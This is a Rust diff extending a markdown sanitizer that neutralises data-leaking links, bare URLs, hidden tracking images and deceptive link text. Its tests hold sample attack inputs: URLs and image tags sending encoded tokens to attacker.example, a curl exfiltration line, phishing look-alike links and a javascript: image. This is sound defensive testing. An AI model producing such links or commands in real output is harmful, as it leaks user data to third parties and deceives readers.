@@ -13,9 +13,19 @@
 //! | image | any scheme but `http(s)` | `[image: ALT]` | `dangerous_url_scheme` |
 //! | link, autolink | scheme other than `http`, `https`, `mailto` | its text | `dangerous_url_scheme` |
 //! | link, autolink | data in query/fragment, host not trusted | ``TEXT (link removed: `URL`)`` | `link_exfiltration` |
-//! | link | text shows another host than the target | ``TEXT (link target: `URL`)`` | `link_text_mismatch` |
+//! | link, inline HTML `<a href>`…`</a>` | text shows another site than the target ([`markup::mismatched_hosts`]) | ``TEXT (link target: `URL`)`` | `link_text_mismatch` |
+//! | bare `http(s)://` or `www.` URL in text (GFM autolinks it) | data in query/fragment, host not trusted | ``` `URL` (link removed)``` | `link_exfiltration` |
+//! | `<img`/`<image` tag in text (not raw HTML for `CommonMark`, e.g. an unquoted value with `=`) | `src` external or not `http(s)` | `[image (HOST)]` | `external_image`, … |
 //! | HTML comment, declaration, processing instruction | not blank | `[hidden comment: TEXT]` | `hidden_comment` |
 //! | raw HTML block or inline tag | anything the allowlist removes | cleaned HTML, image markers | `html_sanitized`, … |
+//! | raw HTML block | parsing it would not be linear (nesting past 64 elements, …) | the rest escaped as text | `html_sanitized` |
+//! | inline tag | too many attributes for the HTML tokenizer's duplicate check | escaped text | `html_sanitized` |
+//!
+//! Text is looked at as runs of adjacent text events (one source span, so a URL split by
+//! an entity or escape is seen whole); bare URLs and `<img` tags are found in the decoded
+//! text, an `<img` only where its `<` is a literal source character, and the extent of a
+//! tag is what html5ever's tokenizer reads. Work is linear in the text: one parse, a set
+//! for reference labels, and each text run scanned once.
 //!
 //! Replacement text is escaped (`CommonMark` §2.4 backslash escapes) and targets are shown
 //! in code spans, so a replacement never parses as a link, image, HTML or comment again,
@@ -25,6 +35,7 @@ use super::html;
 use super::markup::{self, ContentPolicy, Findings, Target};
 use crate::finding::Code;
 use pulldown_cmark::{CowStr, Event, LinkType, Options, Parser, Tag, TagEnd};
+use std::collections::HashSet;
 use std::ops::Range;
 
 /// The parser extensions: what common hosts render, minus constructs whose content a
@@ -46,7 +57,7 @@ struct Edit {
 /// An open link or image, collecting its text and the edits inside it.
 #[derive(Debug)]
 struct Frame {
-    image: bool,
+    kind: Kind,
     range: Range<usize>,
     dest: String,
     link_type: LinkType,
@@ -54,6 +65,20 @@ struct Frame {
     plain: String,
     edits: Vec<Edit>,
 }
+
+/// What a [`Frame`] is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    /// A markdown link or autolink.
+    Link,
+    /// A markdown image.
+    Image,
+    /// An inline raw-HTML `<a href>` (up to its `</a>` in the same block).
+    HtmlLink,
+}
+
+/// Longest source looked at for the end of an `<img` tag found in text.
+const MAX_TEXT_TAG: usize = 2048;
 
 /// One markdown pass: `None` when nothing needs to change.
 pub(crate) fn sanitize(
@@ -64,9 +89,14 @@ pub(crate) fn sanitize(
     let mut edits: Vec<Edit> = Vec::new();
     let mut stack: Vec<Frame> = Vec::new();
     let mut block: Option<HtmlBlock> = None;
-    let mut used_labels: Vec<String> = Vec::new();
-    let mut events = Parser::new_ext(text, options()).into_offset_iter();
-    for (event, range) in &mut events {
+    let mut used_labels: HashSet<String> = HashSet::new();
+    let mut parser = Parser::new_ext(text, options()).into_offset_iter();
+    let events: Vec<(Event<'_>, Range<usize>)> = parser.by_ref().collect();
+    let mut code_blocks = 0usize;
+    let mut i = 0;
+    while i < events.len() {
+        let (event, range) = &events[i];
+        let range = range.clone();
         match event {
             Event::Start(
                 Tag::Link {
@@ -83,25 +113,47 @@ pub(crate) fn sanitize(
                 },
             ) => {
                 if !id.is_empty() {
-                    used_labels.push(normalize_label(&id));
+                    used_labels.insert(normalize_label(id));
                 }
-                let image = text[range.clone()].starts_with('!');
-                stack.push(frame(image, range, &dest_url, link_type));
+                let kind = if text[range.clone()].starts_with('!') {
+                    Kind::Image
+                } else {
+                    Kind::Link
+                };
+                stack.push(frame(kind, range, dest_url, *link_type));
             }
             Event::End(TagEnd::Link | TagEnd::Image) => {
-                let Some(done) = stack.pop() else { continue };
-                let (done_edits, plain) = finish(done, policy, findings);
-                match stack.last_mut() {
-                    Some(parent) => {
-                        parent.edits.extend(done_edits);
-                        parent.plain.push_str(&plain);
-                    }
-                    None => edits.extend(done_edits),
+                while stack.last().is_some_and(|f| f.kind == Kind::HtmlLink) {
+                    flush(&mut stack, &mut edits);
                 }
+                let Some(done) = stack.pop() else {
+                    i += 1;
+                    continue;
+                };
+                let (done_edits, plain) = finish(done, policy, findings);
+                deliver(&mut stack, &mut edits, done_edits, &plain);
+            }
+            Event::Start(Tag::CodeBlock(_)) => code_blocks += 1,
+            Event::End(TagEnd::CodeBlock) => code_blocks = code_blocks.saturating_sub(1),
+            Event::Text(_) if code_blocks == 0 => {
+                // A run of adjacent text events (one source span): bare URLs and `<img`
+                // tags a lenient renderer would act on.
+                let mut j = i + 1;
+                while j < events.len()
+                    && matches!(events[j].0, Event::Text(_))
+                    && events[j].1.start == events[j - 1].1.end
+                {
+                    j += 1;
+                }
+                let run = TextRun::new(text, &events[i..j]);
+                let (run_edits, plain) = run.sanitize(text, policy, findings, stack.is_empty());
+                deliver(&mut stack, &mut edits, run_edits, &plain);
+                i = j;
+                continue;
             }
             Event::Text(t) | Event::Code(t) | Event::FootnoteReference(t) => {
                 if let Some(top) = stack.last_mut() {
-                    top.plain.push_str(&t);
+                    top.plain.push_str(t);
                 }
             }
             Event::SoftBreak | Event::HardBreak => {
@@ -110,19 +162,7 @@ pub(crate) fn sanitize(
                 }
             }
             Event::InlineHtml(t) => {
-                if let Some(tag) = inline_html(&t, policy, findings) {
-                    let edit = Edit {
-                        range,
-                        with: tag.source,
-                    };
-                    match stack.last_mut() {
-                        Some(top) => {
-                            top.plain.push_str(&tag.plain);
-                            top.edits.push(edit);
-                        }
-                        None => edits.push(edit),
-                    }
-                }
+                inline_event(t, range, policy, findings, &mut stack, &mut edits);
             }
             Event::Start(Tag::HtmlBlock) => {
                 block = Some(HtmlBlock {
@@ -133,7 +173,7 @@ pub(crate) fn sanitize(
             }
             Event::Html(t) => {
                 if let Some(b) = block.as_mut() {
-                    b.html.push_str(&t);
+                    b.html.push_str(t);
                     b.lines.push(range.start);
                 }
             }
@@ -147,10 +187,27 @@ pub(crate) fn sanitize(
                     });
                 }
             }
+            Event::End(
+                TagEnd::Emphasis
+                | TagEnd::Strong
+                | TagEnd::Strikethrough
+                | TagEnd::Superscript
+                | TagEnd::Subscript,
+            ) => {}
+            Event::End(_) => {
+                // An inline `<a>` does not outlive its block.
+                while stack.last().is_some_and(|f| f.kind == Kind::HtmlLink) {
+                    flush(&mut stack, &mut edits);
+                }
+            }
             _ => {}
         }
+        i += 1;
     }
-    for (label, def) in events.reference_definitions().iter() {
+    while !stack.is_empty() {
+        flush(&mut stack, &mut edits);
+    }
+    for (label, def) in parser.reference_definitions().iter() {
         if !used_labels.contains(&normalize_label(label))
             && let Some(edit) = titled_definition(
                 text,
@@ -181,9 +238,345 @@ pub(crate) fn sanitize(
     (out != text).then_some(out)
 }
 
-fn frame(image: bool, range: Range<usize>, dest: &CowStr<'_>, link_type: LinkType) -> Frame {
+/// Hands edits and plain text to the enclosing frame, or to the document.
+fn deliver(stack: &mut [Frame], edits: &mut Vec<Edit>, done: Vec<Edit>, plain: &str) {
+    match stack.last_mut() {
+        Some(parent) => {
+            parent.edits.extend(done);
+            parent.plain.push_str(plain);
+        }
+        None => edits.extend(done),
+    }
+}
+
+/// Closes the innermost frame without a decision: its edits and text go up.
+fn flush(stack: &mut Vec<Frame>, edits: &mut Vec<Edit>) {
+    if let Some(frame) = stack.pop() {
+        deliver(stack, edits, frame.edits, &frame.plain);
+    }
+}
+
+/// One inline raw-HTML event: the tag's own replacement, and `<a href>` … `</a>` pairs
+/// whose text shows another site than the `href`.
+fn inline_event(
+    t: &str,
+    range: Range<usize>,
+    policy: &ContentPolicy,
+    findings: &mut Findings<'_>,
+    stack: &mut Vec<Frame>,
+    edits: &mut Vec<Edit>,
+) {
+    let tag = inline_html(t, policy, findings);
+    let (tag_edits, plain) = match tag {
+        Some(tag) => (
+            vec![Edit {
+                range: range.clone(),
+                with: tag.source,
+            }],
+            tag.plain,
+        ),
+        None => (Vec::new(), String::new()),
+    };
+    if t.starts_with("</")
+        && t.as_bytes()
+            .get(2)
+            .is_some_and(|b| b.eq_ignore_ascii_case(&b'a'))
+        && !t[3..].starts_with(|c: char| c.is_ascii_alphanumeric() || c == '-')
+        && stack.last().is_some_and(|f| f.kind == Kind::HtmlLink)
+        && let Some(mut done) = stack.pop()
+    {
+        done.edits.extend(tag_edits);
+        done.range.end = range.end;
+        let (done_edits, plain) = match html_link(&done, findings) {
+            Some((source, plain)) => (
+                vec![Edit {
+                    range: done.range,
+                    with: source,
+                }],
+                plain,
+            ),
+            None => (done.edits, done.plain),
+        };
+        deliver(stack, edits, done_edits, &plain);
+        return;
+    }
+    // A kept `href` (not dropped as data-carrying) opens a frame up to `</a>`.
+    let kept = html::link_href(t).filter(|href| match markup::classify(href) {
+        Target::Web(url) => {
+            policy.is_trusted(url.host_str().unwrap_or_default())
+                || markup::data_carriers(&url).is_empty()
+        }
+        _ => false,
+    });
+    match kept {
+        Some(dest) => stack.push(Frame {
+            kind: Kind::HtmlLink,
+            range,
+            dest,
+            link_type: LinkType::Inline,
+            plain: String::new(),
+            edits: tag_edits,
+        }),
+        None => deliver(stack, edits, tag_edits, &plain),
+    }
+}
+
+/// `(source, plain)` replacing an inline HTML link whose text shows another site.
+fn html_link(frame: &Frame, findings: &mut Findings<'_>) -> Option<(String, String)> {
+    let Target::Web(url) = markup::classify(&frame.dest) else {
+        return None;
+    };
+    let text = frame.plain.split_whitespace().collect::<Vec<_>>().join(" ");
+    let shown = markup::mismatched_hosts(&text, &url);
+    if shown.is_empty() {
+        return None;
+    }
+    let host = url.host_str().unwrap_or_default();
+    findings.push(
+        Code::LinkTextMismatch,
+        format!(
+            "an HTML link's text shows {} but it leads to {host}; it was made inert and its real target is shown",
+            shown.join(", ")
+        ),
+    );
+    let target = markup::display_url(&url);
+    let source = format!(
+        "{} (link target: {})",
+        markup::escape_inline(&text),
+        markup::code_span(&target)
+    );
+    Some((source, format!("{text} (link target: {target})")))
+}
+
+/// A run of adjacent text events: their decoded text and where each came from.
+struct TextRun {
+    decoded: String,
+    /// `(offset in decoded, source range, source equals decoded text)`.
+    pieces: Vec<(usize, Range<usize>, bool)>,
+}
+
+impl TextRun {
+    fn new(text: &str, events: &[(Event<'_>, Range<usize>)]) -> Self {
+        let mut decoded = String::new();
+        let mut pieces = Vec::with_capacity(events.len());
+        for (event, range) in events {
+            if let Event::Text(t) = event {
+                pieces.push((decoded.len(), range.clone(), text[range.clone()] == **t));
+                decoded.push_str(t);
+            }
+        }
+        Self { decoded, pieces }
+    }
+
+    /// The piece holding decoded offset `d`.
+    fn piece(&self, d: usize) -> &(usize, Range<usize>, bool) {
+        let i = self.pieces.partition_point(|p| p.0 <= d).saturating_sub(1);
+        &self.pieces[i]
+    }
+
+    /// Source offset of decoded offset `d` when it lies in text copied from the source.
+    fn exact_source(&self, d: usize) -> Option<usize> {
+        let (start, range, exact) = self.piece(d);
+        (*exact).then(|| range.start + (d - start))
+    }
+
+    /// Source offset of decoded offset `d`: inside a decoded piece (an entity or escape),
+    /// the piece's start (`end == false`) or end.
+    fn source(&self, d: usize, end: bool) -> usize {
+        if d >= self.decoded.len() {
+            return self.pieces.last().map_or(0, |p| p.1.end);
+        }
+        let (start, range, exact) = self.piece(d);
+        match (exact, end && d > *start) {
+            (true, _) => range.start + (d - start),
+            (false, false) => range.start,
+            (false, true) => range.end,
+        }
+    }
+
+    /// Decoded offset of source offset `s` (inside a decoded piece: its end).
+    fn decoded_at(&self, s: usize) -> usize {
+        let i = self
+            .pieces
+            .partition_point(|p| p.1.start <= s)
+            .saturating_sub(1);
+        let (start, range, exact) = &self.pieces[i];
+        let len = self.pieces.get(i + 1).map_or(self.decoded.len(), |p| p.0) - start;
+        if *exact {
+            start + (s - range.start).min(len)
+        } else {
+            start + len
+        }
+    }
+
+    /// Edits for this run and its plain text (with replacements). `bare_urls`: whether
+    /// bare URLs are looked at (not inside a link, where a host would not autolink).
+    fn sanitize(
+        &self,
+        text: &str,
+        policy: &ContentPolicy,
+        findings: &mut Findings<'_>,
+        bare_urls: bool,
+    ) -> (Vec<Edit>, String) {
+        let decoded = self.decoded.as_str();
+        let lower = decoded.to_ascii_lowercase();
+        let source_end = self.pieces.last().map_or(0, |p| p.1.end);
+        // (decoded range, edit, plain replacement)
+        let mut found: Vec<(Range<usize>, Edit, String)> = Vec::new();
+        let mut skip = 0;
+        for (d, _) in lower.match_indices("<im") {
+            if d < skip || !(lower[d..].starts_with("<img") || lower[d..].starts_with("<image")) {
+                continue;
+            }
+            let name_len = if lower[d..].starts_with("<image") {
+                6
+            } else {
+                4
+            };
+            if lower[d + name_len..]
+                .chars()
+                .next()
+                .is_some_and(|c| !c.is_ascii_whitespace() && c != '/' && c != '>')
+            {
+                continue;
+            }
+            let Some(start) = self.exact_source(d) else {
+                continue;
+            };
+            let (read, loads) = html::loading_image(&text[start..source_end], policy, MAX_TEXT_TAG);
+            skip = self.decoded_at(start + read);
+            if !loads {
+                continue;
+            }
+            let tag_source = &text[start..start + read];
+            if let Some(tag) = html::sanitize_tag(tag_source, policy, findings) {
+                found.push((
+                    d..skip,
+                    Edit {
+                        range: start..start + read,
+                        with: tag.source,
+                    },
+                    tag.plain,
+                ));
+            }
+        }
+        if bare_urls {
+            self.bare_urls(&lower, policy, findings, &mut found);
+        }
+        found.sort_by_key(|f| f.0.start);
+        let mut plain = String::with_capacity(decoded.len());
+        let mut edits = Vec::with_capacity(found.len());
+        let mut at = 0;
+        for (range, edit, replacement) in found {
+            if range.start < at {
+                continue;
+            }
+            plain.push_str(&decoded[at..range.start]);
+            plain.push_str(&replacement);
+            at = range.end;
+            edits.push(edit);
+        }
+        plain.push_str(&decoded[at.min(decoded.len())..]);
+        (edits, plain)
+    }
+
+    /// Bare `http://`, `https://` and `www.` URLs (GFM extended autolinks: at the start of
+    /// the text, after whitespace or after `*`, `_`, `~`, `(`) that carry data to an
+    /// untrusted host become `` `URL` (link removed)``. The candidate runs up to
+    /// whitespace or `<` with trailing punctuation and unbalanced `)` left out, as GFM
+    /// does; the URL parser decides the rest.
+    fn bare_urls(
+        &self,
+        lower: &str,
+        policy: &ContentPolicy,
+        findings: &mut Findings<'_>,
+        found: &mut Vec<(Range<usize>, Edit, String)>,
+    ) {
+        let decoded = self.decoded.as_str();
+        let mut skip = 0;
+        let mut d = 0;
+        while let Some(k) = lower[d..].find(['h', 'w']) {
+            let start = d + k;
+            d = start + 1;
+            let rest = &lower[start..];
+            let www = rest.starts_with("www.");
+            if start < skip
+                || !(www || rest.starts_with("http://") || rest.starts_with("https://"))
+                || decoded[..start]
+                    .chars()
+                    .next_back()
+                    .is_some_and(|c| !c.is_whitespace() && !matches!(c, '*' | '_' | '~' | '('))
+            {
+                continue;
+            }
+            let end = start
+                + decoded[start..]
+                    .find(|c: char| c.is_whitespace() || c == '<')
+                    .unwrap_or(decoded.len() - start);
+            skip = end;
+            let candidate = trim_autolink(&decoded[start..end]);
+            let parsed = if www {
+                url::Url::parse(&format!("http://{candidate}"))
+            } else {
+                url::Url::parse(candidate)
+            };
+            let Ok(url) = parsed else { continue };
+            let Target::Web(url) = markup::classify(url.as_str()) else {
+                continue;
+            };
+            let host = url.host_str().unwrap_or_default().to_owned();
+            let carriers = markup::data_carriers(&url);
+            if policy.is_trusted(&host) || carriers.is_empty() {
+                continue;
+            }
+            findings.push(
+                Code::LinkExfiltration,
+                format!(
+                    "a bare URL to {host} carried data ({}); hosts that autolink bare URLs would make it a link, so it was made inert and its full target is shown",
+                    carriers.join(", ")
+                ),
+            );
+            let target = markup::display_url(&url);
+            let range = start..start + candidate.len();
+            found.push((
+                range.clone(),
+                Edit {
+                    range: self.source(range.start, false)..self.source(range.end, true),
+                    with: format!("{} (link removed)", markup::code_span(&target)),
+                },
+                format!("{target} (link removed)"),
+            ));
+        }
+    }
+}
+
+/// A GFM extended autolink candidate without trailing punctuation (`?!.,:*_~'"`), an
+/// unbalanced closing parenthesis or a trailing entity-like `&name;`.
+fn trim_autolink(candidate: &str) -> &str {
+    let mut s = candidate;
+    loop {
+        let before = s.len();
+        s = s.trim_end_matches(['?', '!', '.', ',', ':', '*', '_', '~', '\'', '"']);
+        if s.ends_with(')') && s.matches('(').count() < s.matches(')').count() {
+            s = &s[..s.len() - 1];
+        }
+        if s.ends_with(';')
+            && let Some(amp) = s.rfind('&')
+            && s[amp + 1..s.len() - 1]
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric())
+        {
+            s = &s[..amp];
+        }
+        if s.len() == before {
+            return s;
+        }
+    }
+}
+
+fn frame(kind: Kind, range: Range<usize>, dest: &CowStr<'_>, link_type: LinkType) -> Frame {
     Frame {
-        image,
+        kind,
         range,
         dest: dest.to_string(),
         link_type,
@@ -199,10 +592,10 @@ fn finish(
     policy: &ContentPolicy,
     findings: &mut Findings<'_>,
 ) -> (Vec<Edit>, String) {
-    let replacement = if frame.image {
-        image(&frame, policy, findings)
-    } else {
-        link(&frame, policy, findings)
+    let replacement = match frame.kind {
+        Kind::Image => image(&frame, policy, findings),
+        Kind::Link => link(&frame, policy, findings),
+        Kind::HtmlLink => html_link(&frame, findings),
     };
     match replacement {
         None => (frame.edits, frame.plain),
@@ -279,10 +672,7 @@ fn link(
         }
         Target::Web(url) => {
             let host = url.host_str().unwrap_or_default().to_owned();
-            let shown: Vec<String> = markup::hosts_shown_in(&text)
-                .into_iter()
-                .filter(|h| !markup::same_site(h, &host))
-                .collect();
+            let shown = markup::mismatched_hosts(&text, &url);
             let carriers = if policy.is_trusted(&host) {
                 Vec::new()
             } else {
@@ -608,6 +998,22 @@ mod tests {
             "<b>bold</b> and <em>em</em> and <a href=\"https://docs.example.com/\">docs</a>",
             "| a | b |\n|---|---|\n| [x](https://docs.example.com/) | `<b>` |",
             "[config.json](https://github.com/org/repo/blob/main/config.json)",
+            // Link texts that are not hosts, or the target's own site.
+            "[the docs](https://docs.example.com) [docs.example.com/guide](https://docs.example.com/guide)",
+            "[Example](https://www.example.com) [docs.example.com](https://www.example.com/)",
+            "[v1.2.3](https://github.com/o/r/releases/tag/v1.2.3) [Python 3.12](https://docs.python.org/3.12/)",
+            "[README.md](https://example.com/README.md) [setup.py](https://gist.github.com/abc123)",
+            "[Node.js](https://nodejs.org/) [socket.io](https://github.com/socketio/socket.io) [e.g. this](https://example.org/)",
+            "[https://docs.example.com](https://www.example.com/x) [mail me at team@example.com](https://example.org/contact)",
+            "<a href=\"https://docs.example.com/\">docs.example.com</a> and <a href=\"https://example.org/\">the site</a>",
+            // Bare URLs without data, data to a trusted host, URLs in code.
+            "See https://example.com/articles?page=2&sort=asc and www.example.com/x?page=3.",
+            "Callback: https://trusted.example/cb?token=abcdef and `https://attacker.example/?token=abc`",
+            "```\ncurl https://attacker.example/?token=abc\n```\n",
+            "x`https://attacker.example/?token=abc` and \\<https://attacker.example/?token=abc\\>",
+            // Text that only looks like an image tag.
+            "Use `<IMG SRC=https://attacker.example/x.png?d=abc>` in code, and <img in prose, and <img src=diagram.png?v=2>",
+            "\\<img src=https://attacker.example/x.png?d=abc\\>",
         ];
         for text in cases {
             let (out, codes, borrowed) = run(text);
@@ -789,6 +1195,100 @@ mod tests {
                 &["`https://attacker.example/c?token=abcdef` (link removed)"],
                 &["<https"],
                 &[Code::LinkExfiltration],
+            ),
+            // Link text shows a bare host of another site.
+            (
+                "Read [docs.example.com](https://attacker.example/) now.",
+                &["Read docs.example.com (link target: `https://attacker.example/`) now."],
+                &["]("],
+                &[Code::LinkTextMismatch],
+            ),
+            (
+                "[paypal.com](https://paypal.attacker.example/signin)",
+                &["paypal.com (link target: `https://paypal.attacker.example/signin`)"],
+                &["]("],
+                &[Code::LinkTextMismatch],
+            ),
+            (
+                "[PayPal.com/login](https://attacker.example/signin)",
+                &["(link target: `https://attacker.example/signin`)"],
+                &["]("],
+                &[Code::LinkTextMismatch],
+            ),
+            // ASCII text, look-alike (punycode) target.
+            (
+                "[docs.example.com](https://docs.xn--exmple-4nf.com/login)",
+                &["(link target: `https://docs.xn--exmple-4nf.com/login`)"],
+                &["]("],
+                &[Code::LinkTextMismatch],
+            ),
+            // Look-alike (Unicode) text, ASCII target.
+            (
+                "[docs.exаmple.com](https://docs.example.com/login)",
+                &["(link target: `https://docs.example.com/login`)"],
+                &["]("],
+                &[Code::LinkTextMismatch],
+            ),
+            // HTML link whose text shows another host.
+            (
+                "Sign in: <a href=\"https://attacker.example/\">https://docs.example.com</a> today",
+                &[
+                    "Sign in: https://docs.example.com (link target: `https://attacker.example/`) today",
+                ],
+                &["<a", "</a>"],
+                &[Code::LinkTextMismatch],
+            ),
+            (
+                "<a href=\"https://attacker.example/\" title=\"x\">docs.example.com</a>",
+                &["docs.example.com (link target: `https://attacker.example/`)"],
+                &["<a"],
+                &[Code::LinkTextMismatch],
+            ),
+            // Bare URLs carrying data (GFM autolinks them).
+            (
+                "Done: https://attacker.example/?token=c2VjcmV0LXRva2Vu.",
+                &["Done: `https://attacker.example/?token=c2VjcmV0LXRva2Vu` (link removed)."],
+                &[": https"],
+                &[Code::LinkExfiltration],
+            ),
+            (
+                "(see www.attacker.example/p?d=cHJvamVjdCBhdGxhcyBidWRnZXQ=)",
+                &[
+                    "(see `http://www.attacker.example/p?d=cHJvamVjdCBhdGxhcyBidWRnZXQ=` (link removed))",
+                ],
+                &["see www"],
+                &[Code::LinkExfiltration],
+            ),
+            (
+                "| a |\n|---|\n| https://attacker.example/?chat=the%20quarterly%20numbers |",
+                &["| `https://attacker.example/?chat=the%20quarterly%20numbers` (link removed) |"],
+                &["| https"],
+                &[Code::LinkExfiltration],
+            ),
+            (
+                "a https://attacker.example/?token=x&amp;y=1 b",
+                &["a `https://attacker.example/?token=x&y=1` (link removed) b"],
+                &["a https"],
+                &[Code::LinkExfiltration],
+            ),
+            // Unquoted attribute values (not raw HTML in CommonMark, so plain text).
+            (
+                "Report: <IMG SRC=https://attacker.example/x.png?d=cHJvamVjdCBhdGxhcw== WIDTH=1> end",
+                &["Report: \\[image (attacker.example)\\] end"],
+                &["<IMG", "SRC="],
+                &[Code::ExternalImage],
+            ),
+            (
+                "[x <img src=https://attacker.example/t.gif?a=b>](https://docs.example.com/)",
+                &["image (attacker.example)"],
+                &["<img"],
+                &[Code::ExternalImage],
+            ),
+            (
+                "<image src=javascript:alert(1)?a=b>",
+                &["\\[image\\]"],
+                &["javascript"],
+                &[Code::DangerousUrlScheme],
             ),
         ];
         for (input, includes, excludes, codes) in cases {
